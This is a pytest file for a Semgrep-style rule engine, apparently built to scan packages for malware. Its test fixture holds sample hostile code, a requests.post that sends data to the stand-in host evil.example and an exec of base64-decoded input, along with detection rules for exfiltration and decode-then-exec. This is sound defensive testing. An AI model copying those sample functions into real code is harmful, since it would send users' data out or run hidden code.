"""Tests for the Semgrep-lite engine (patterns, loader, matcher, compiler)."""

import ast

import pytest

from repro.semgrepx import (
    Pattern,
    ScanTarget,
    SemgrepPatternError,
    SemgrepRule,
    SemgrepRuleBuilder,
    SemgrepRuleError,
    compile_yaml,
    dump_rules_yaml,
    load_rules_yaml,
    try_compile,
)
from repro.scanserve.index import RuleIndex

CODE = '''
import os
import base64
import requests


def exfiltrate(data):
    requests.post("https://evil.example/upload", json=data, timeout=5)


def run_payload(blob):
    exec(base64.b64decode(blob))


def helper(path):
    with open(path) as fh:
        return fh.read()
'''


def target():
    return ScanTarget.from_files("demo", [("demo.py", CODE)])


# -- pattern semantics -------------------------------------------------------------

def test_expression_pattern_matches_nested_call():
    pattern = Pattern("exec(base64.b64decode($X))")
    results = pattern.match_tree(ast.parse(CODE))
    assert results
    assert results[0].bindings["X"] == ast.dump(ast.Name(id="blob", ctx=ast.Load()))


def test_metavariable_consistency():
    pattern = Pattern("$F($X, $X)")
    assert pattern.match_tree(ast.parse("f(a, a)"))
    assert not pattern.match_tree(ast.parse("f(a, b)"))


def test_string_metavariable_binds_literal():
    pattern = Pattern('requests.post("$URL", ...)')
    results = pattern.match_tree(ast.parse(CODE))
    assert results and results[0].bindings["URL"].startswith("https://evil.example")


def test_ellipsis_in_arguments():
    pattern = Pattern("requests.post($URL, ...)")
    assert pattern.match_tree(ast.parse(CODE))


def test_keyword_argument_must_be_present():
    assert Pattern("requests.post($URL, json=$D, ...)").match_tree(ast.parse(CODE))
    assert not Pattern("requests.post($URL, data=$D, ...)").match_tree(ast.parse(CODE))


def test_statement_pattern_with_ellipsis():
    pattern = Pattern("with open($P) as $F:\n    ...")
    assert pattern.match_tree(ast.parse(CODE))


def test_import_pattern_subset_semantics():
    assert Pattern("import base64").match_tree(ast.parse(CODE))
    assert not Pattern("import socket").match_tree(ast.parse(CODE))


def test_invalid_pattern_raises():
    with pytest.raises(SemgrepPatternError):
        Pattern("def broken(:")
    with pytest.raises(SemgrepPatternError):
        Pattern("   ")


def test_anchors_provide_prefilter_terms():
    anchors = Pattern("requests.post($URL, ...)").anchors()
    assert "requests" in anchors or "post" in anchors


def test_string_metavariable_is_not_an_anchor():
    assert Pattern('$F("$URL")').anchors() == set()
    assert Pattern('os.system("$CMD")').anchors() == {"os", "system"}
    ruleset = compile_yaml("""
rules:
  - id: any-call-with-url
    languages: [python]
    message: call with a string argument
    pattern: $F("$URL")
""")
    source = 'import requests\nrequests.get("http://x")\n'
    scan = ScanTarget.from_files("demo", [("demo.py", source)])
    findings = ruleset.match_target(scan)
    assert [(f.rule_id, f.line) for f in findings] == [("any-call-with-url", 2)]
    assert dict(findings[0].metavariables)["URL"] == "http://x"
    assert RuleIndex(semgrep=ruleset).match_semgrep(scan) == findings


# -- rule schema and loader ------------------------------------------------------------

def test_rule_validation_errors():
    with pytest.raises(SemgrepRuleError):
        SemgrepRule(id="", message="m", pattern="f()").validate()
    with pytest.raises(SemgrepRuleError):
        SemgrepRule(id="x", message="", pattern="f()").validate()
    with pytest.raises(SemgrepRuleError):
        SemgrepRule(id="x", message="m").validate()  # no pattern operator
    with pytest.raises(SemgrepRuleError):
        SemgrepRule(id="x", message="m", pattern="f()", severity="CRITICAL").validate()


def test_loader_rejects_bad_documents():
    with pytest.raises(SemgrepRuleError):
        load_rules_yaml("")
    with pytest.raises(SemgrepRuleError):
        load_rules_yaml("not_rules: []")
    with pytest.raises(SemgrepRuleError):
        load_rules_yaml("rules: []")


def test_loader_rejects_duplicate_ids():
    text = """
rules:
  - id: same
    languages: [python]
    message: a
    pattern: f()
  - id: same
    languages: [python]
    message: b
    pattern: g()
"""
    with pytest.raises(SemgrepRuleError):
        load_rules_yaml(text)


def test_builder_dump_load_roundtrip():
    rule = (SemgrepRuleBuilder("detect-thing", message="found a thing")
            .either_pattern("os.system($C)")
            .either_pattern("subprocess.run($C, shell=True, ...)")
            .meta("category", "execution")
            .build())
    text = dump_rules_yaml([rule])
    loaded = load_rules_yaml(text)
    assert loaded[0].id == "detect-thing"
    assert len(loaded[0].pattern_either) == 2


# -- compiled matching --------------------------------------------------------------------

def test_compile_and_match_pattern_either():
    yaml_text = """
rules:
  - id: detect-exfil
    languages: [python]
    severity: ERROR
    message: exfiltration
    pattern-either:
      - pattern: requests.post($URL, ...)
      - pattern: urllib.request.urlopen($R)
"""
    ruleset = compile_yaml(yaml_text)
    findings = ruleset.match_target(target())
    assert {f.rule_id for f in findings} == {"detect-exfil"}
    assert findings[0].line > 0


def test_compile_and_match_patterns_all_of():
    yaml_text = """
rules:
  - id: detect-decode-exec
    languages: [python]
    message: decode then exec
    patterns:
      - pattern: exec(base64.b64decode($X))
      - pattern: import base64
"""
    ruleset = compile_yaml(yaml_text)
    assert ruleset.match_target(target())


def test_pattern_not_suppresses_file():
    yaml_text = """
rules:
  - id: detect-open
    languages: [python]
    message: open use
    pattern: open($P)
    pattern-not: exec(base64.b64decode($X))
"""
    ruleset = compile_yaml(yaml_text)
    assert not ruleset.match_target(target())


def test_pattern_regex_matching():
    yaml_text = """
rules:
  - id: detect-evil-domain
    languages: [python]
    message: evil domain
    pattern-regex: evil\\.example
"""
    assert compile_yaml(yaml_text).match_target(target())


def test_try_compile_reports_errors():
    ruleset, error = try_compile("rules:\n  - id: x\n    message: m\n    languages: [python]\n")
    assert ruleset is None and "must define one of" in error
    ruleset, error = try_compile("rules:\n  - id: x\n    message: m\n    languages: [python]\n    pattern: 'def f(:'\n")
    assert ruleset is None and "not valid Python syntax" in error


def test_scan_target_skips_unparseable_files():
    scan = ScanTarget.from_files("demo", [("bad.py", "def broken(:")])
    assert scan.files[0].tree is None
    ruleset = compile_yaml("""
rules:
  - id: anything
    languages: [python]
    message: m
    pattern: os.system($C)
""")
    assert ruleset.match_target(scan) == []


def test_scan_target_from_package(malware_packages):
    scan = ScanTarget.from_package(malware_packages[0])
    assert scan.parsed_files
    assert scan.text
